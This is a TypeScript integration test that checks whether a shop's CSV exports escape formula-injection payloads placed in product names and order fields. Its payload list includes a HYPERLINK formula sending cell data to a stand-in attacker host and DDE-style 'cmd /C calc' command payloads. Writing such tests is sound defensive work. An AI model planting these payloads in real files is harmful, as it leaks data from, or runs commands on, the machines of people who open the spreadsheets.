/**
 * CSV formula injection (issue 23): with product names and an order reference that a spreadsheet
 * would run as formulas (=, +, -, @, tab, CR), every CSV the shop produces — the customer's price
 * list and statement, the admin's orders CSV, the admin's catalog export (every file of the ZIP)
 * and the admin's copy of a statement — has no cell that starts with a formula character, and the
 * numbers stay plain numbers.
 */
import { parse } from 'csv-parse/sync';
import { inArray } from 'drizzle-orm';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFormulaCell } from '@serena/server-kit';
import { products } from '../../api/src/db/schema/index.js';
import { adminGql, DEMO_ADMIN, DEMO_CUSTOMER, tokenOf } from './helpers/admin-client.js';
import { startStack, type Stack } from './helpers/real-stack.js';

/** Names a spreadsheet would run (the audit's list), one per demo product id 1…8. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1 Tabbed Bed',
  '\r=1+1 Returned Bed',
  "'=already quoted",
  '-12.50',
];

/** Irish calendar month, YYYY-MM. */
const irishMonth = () =>
  new Intl.DateTimeFormat('en-CA', { year: 'numeric', month: '2-digit', timeZone: 'Europe/Dublin' })
    .format(new Date())
    .slice(0, 7);

/**
 * Every cell of `text` (CSV, header included) that would run as a formula; plain numbers ('-1'
 * stock, '-12.50' euros) are numbers, and the tests check that a name '-12.50' is quoted.
 */
function formulaCells(text: string): string[] {
  const rows: string[][] = parse(text, { bom: true, relax_column_count: true });
  return rows.flat().filter((cell) => isFormulaCell(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

let stack: Stack;
let customer: string;
let admin: string;

beforeAll(async () => {
  stack = await startStack({
    seed: async (db) => {
      // Few products, so the catalog export draws few pictures.
      const rows = await db.select({ id: products.id }).from(products);
      const extra = rows.map((r) => r.id).filter((id) => id > HOSTILE.length);
      await db.delete(products).where(inArray(products.id, extra));
      for (const [i, name] of HOSTILE.entries()) {
        await db
          .update(products)
          .set({ name })
          .where(inArray(products.id, [i + 1]));
      }
    },
  });
  [customer, admin] = await Promise.all([
    tokenOf(stack, DEMO_CUSTOMER),
    tokenOf(stack, DEMO_ADMIN),
  ]);
  // One order of a hostile-named bed with a hostile reference: for the orders CSV and statement.
  const bed = await adminGql<{
    product: {
      id: string;
      sizes: { id: string }[];
      fabrics: { id: string; colors: { id: string }[] }[];
    };
  }>(stack, `{ product(id: "1") { id sizes { id } fabrics { id colors { id } } } }`, {}, customer);
  const p = bed.data!.product;
  const placed = await adminGql<{ placeOrder: { userErrors: unknown[] } }>(
    stack,
    `mutation($input: PlaceOrderInput!) { placeOrder(input: $input) { userErrors { message } } }`,
    {
      input: {
        idempotencyKey: 'csv-injection-1',
        shippingAddress: {
          firstName: '=Aoife',
          address: '@Unit 4',
          city: 'Galway',
          country: 'Ireland',
        },
        lines: [
          {
            productId: p.id,
            sizeId: p.sizes[0]!.id,
            fabricId: p.fabrics[0]!.id,
            fabricColorId: p.fabrics[0]!.colors[0]!.id,
            storage: 'NONE',
            quantity: 1,
            referenceNumber: '=1+1',
            specialQuote: { text: '+ring first' },
          },
        ],
      },
    },
    customer,
  );
  expect(placed.errors).toBeUndefined();
  expect(placed.data!.placeOrder.userErrors).toEqual([]);
}, 120_000);
afterAll(async () => stack?.close(), 60_000);

describe('every CSV route with hostile product names', () => {
  it('the price list: no formula cell, prices stay numbers', async () => {
    const response = await fetch(`${stack.bffUrl}/documents/price-list.csv`, {
      headers: { cookie: `authToken=${customer}` },
    });
    expect(response.status).toBe(200);
    const text = await response.text();
    expect(formulaCells(text)).toEqual([]);
    const rows = parse<Record<string, string>>(text, { columns: true });
    const names = new Set(rows.map((r) => r.Product));
    expect(names).toContain(`'${HOSTILE[0]}`);
    expect(names).toContain(`'${HOSTILE[7]}`);
    expect(names).toContain(`''=already quoted`);
    for (const r of rows.filter((row) => row['Net unit price (EUR)'] !== '')) {
      expect(r['Net unit price (EUR)']).toMatch(/^\d+\.\d\d$/);
    }
  });

  it('the statement (customer and admin copy): no formula cell', async () => {
    const month = irishMonth();
    const own = await fetch(`${stack.bffUrl}/documents/statements/${month}.csv`, {
      headers: { cookie: `authToken=${customer}` },
    });
    expect(own.status).toBe(200);
    expect(formulaCells(await own.text())).toEqual([]);
    const me = (await (
      await fetch(`${stack.apiUrl}/api/auth/user/me`, {
        headers: { authorization: `Bearer ${customer}` },
      })
    ).json()) as { id?: number; user?: { id: number } };
    const id = me.user?.id ?? me.id;
    const copy = await fetch(`${stack.apiUrl}/api/admin/accounts/${id}/statements/${month}.csv`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(copy.status).toBe(200);
    expect(formulaCells(await copy.text())).toEqual([]);
  });

  it('the admin orders CSV: no formula cell', async () => {
    const r = await adminGql<{ admin: { ordersCsv: { content: string } } }>(
      stack,
      `{ admin { ordersCsv { content } } }`,
      {},
      admin,
    );
    expect(r.errors).toBeUndefined();
    expect(formulaCells(r.data!.admin.ordersCsv.content)).toEqual([]);
  });

  it('the catalog export: no formula cell in any file, and names read back exactly', async () => {
    const response = await fetch(`${stack.bffUrl}/documents/admin/catalog.zip`, {
      headers: { cookie: `authToken=${admin}` },
    });
    expect(response.status).toBe(200);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const csvFiles = Object.keys(files).filter((f) => f.endsWith('.csv'));
    expect(csvFiles.length).toBe(15); // 12 catalog files and 3 price files (issue 25)
    for (const file of csvFiles) {
      expect([file, formulaCells(strFromU8(files[file]!))]).toEqual([file, []]);
    }
    const rows = parse<Record<string, string>>(strFromU8(files['products.csv']!), {
      columns: true,
    });
    expect(rows.map((r) => r.name)).toContain(`'${HOSTILE[1]}`);
    expect(rows.map((r) => r.name)).toContain(`'${HOSTILE[7]}`);
  }, 30_000);
});
